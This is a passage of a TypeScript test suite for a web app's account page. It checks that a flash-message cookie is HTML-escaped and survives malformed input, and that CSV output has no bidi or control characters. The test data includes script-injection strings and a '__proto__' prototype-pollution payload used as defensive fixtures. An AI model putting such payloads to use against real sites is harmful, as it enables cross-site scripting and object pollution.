    expect(csv).not.toMatch(/[\u202a-\u202e\u2066-\u2069]|\p{Cc}(?<![\n\r\t])/u);
  }); // prettier-ignore

  it('into the cookie of what was just said is text, and nonsense there is nothing', async () => {
    const test = await open(COUNTRY);
    const operator = english(await test.as('operator'));
    const shown = async (value: string): Promise<string> => {
      operator.cookies.set('rasad-said', value);
      const answer = await operator.get('/account');
      expect(answer.status).toBe(200);
      return answer.text();
    };
    expect(await shown(encodeURIComponent(JSON.stringify({ fa: 'x', en: '<script>pwned</script>', isWrong: '"><script>' })))).toContain('&lt;script&gt;pwned');
    for (const value of ['%', '{', 'null', '1', '%22x%22', encodeURIComponent('{"en":{"text":"<script>"}}'), encodeURIComponent('{"__proto__":{"en":"polluted"}}'), '%00', 'x'.repeat(4000)]) {
      const page = await shown(value);
      expect(page).not.toMatch(/<script>|polluted|class="flash/);
    }
  }); // prettier-ignore
});
